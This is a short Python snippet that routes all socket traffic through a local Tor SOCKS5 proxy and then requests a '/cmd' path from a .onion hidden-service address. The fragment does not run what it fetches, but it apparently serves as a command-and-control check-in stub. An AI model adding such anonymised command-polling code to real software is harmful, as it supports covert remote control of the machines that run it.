import socks, socket
socks.set_default_proxy(socks.SOCKS5, '127.0.0.1', 9050)
socket.socket = socks.socksocket
import urllib.request
urllib.request.urlopen('http://duskgytldkxiuqc6.onion/cmd')
